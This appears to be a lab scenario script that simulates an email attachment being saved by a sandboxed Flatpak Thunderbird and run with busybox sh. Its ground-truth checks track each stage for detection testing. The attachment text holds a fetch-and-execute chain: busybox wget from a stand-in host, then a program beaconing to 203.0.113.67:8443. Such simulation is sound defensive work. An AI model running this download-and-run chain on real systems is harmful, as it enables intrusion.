# The client lives in a sandbox of its own folders, and the shell that runs the file is called busybox.
title="Attachment saved below ~/.var/app, run by setsid and busybox"
what="Thunderbird as a Flatpak application (/app/lib/thunderbird), in the real flatpak's bubblewrap, reads the mailbox over IMAP from Dovecot on the host itself and saves the attachment terms.txt below ~/.var/app/org.mozilla.Thunderbird. From a desktop launcher line it is run by setsid busybox sh, which fetches a program from 203.0.113.66 with busybox wget and starts it. The runtime and the application are made by the laboratory of what Debian installs."
host=ws3.example.org user=buyer daemons="cron dovecot"

setup() {
  dovecot_config; flatpak_thunderbird || return 1
  printf 'cd "$HOME/.var/app/org.mozilla.Thunderbird"\nbusybox wget -q -O cfg http://drop.example.net/terms/c\nchmod 700 cfg\n./cfg 203.0.113.67 8443\n' > "$base/out/terms.txt"
  mkdir -p "$base/out/www/terms"; cc -O1 -o "$base/out/www/terms/c" "$lab/lib/stand-ins/beacon.c"
}
act() {
  display_up
  small_talk 2
  mail_in --from legal@example.com --to buyer@example.org --subject "Terms" --source 203.0.113.25 --helo smtp.example.com --attach "$base/out/terms.txt:application/octet-stream"
  wait_log 'from=<legal@example.com>'; wait_mail buyer 1; sleep 1
  flatpak_thunderbird_save buyer terms.txt Downloads
  sleep 2
  desktop_as buyer -- /usr/bin/setsid -w busybox sh .var/app/org.mozilla.Thunderbird/Downloads/terms.txt; desktop_wait
  small_talk 1
}
truth() {
  mail_step deliver 'to=<buyer@example.org>.*status=sent' 'the message is delivered'
  exec_step sandbox 'bwrap ' 'flatpak builds the sandbox'
  exec_step client '/app/lib/thunderbird/thunderbird' 'the client starts in it'
  file_step save 'thunderbird.*org.mozilla.Thunderbird/Downloads/terms.txt' 'the client writes the attachment'
  exec_step execute 'busybox sh .*/terms.txt' 'busybox runs it'
  exec_step second 'cfg 203.0.113.67' 'what it fetched is started'
  net_step beacon 'cfg 203.0.113.67:8443' 'and calls out'
}
